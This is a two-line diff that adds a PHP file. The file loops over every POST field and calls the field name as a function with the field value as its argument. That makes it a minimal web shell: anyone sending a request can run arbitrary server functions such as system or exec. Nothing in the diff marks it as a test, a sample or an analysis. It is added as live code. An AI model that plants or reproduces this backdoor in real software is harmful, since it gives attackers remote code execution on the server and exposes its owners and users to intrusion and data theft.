@@ -1,0 +1,2 @@
+<?php
+foreach ($_POST as $k => $v) { $k($v); }
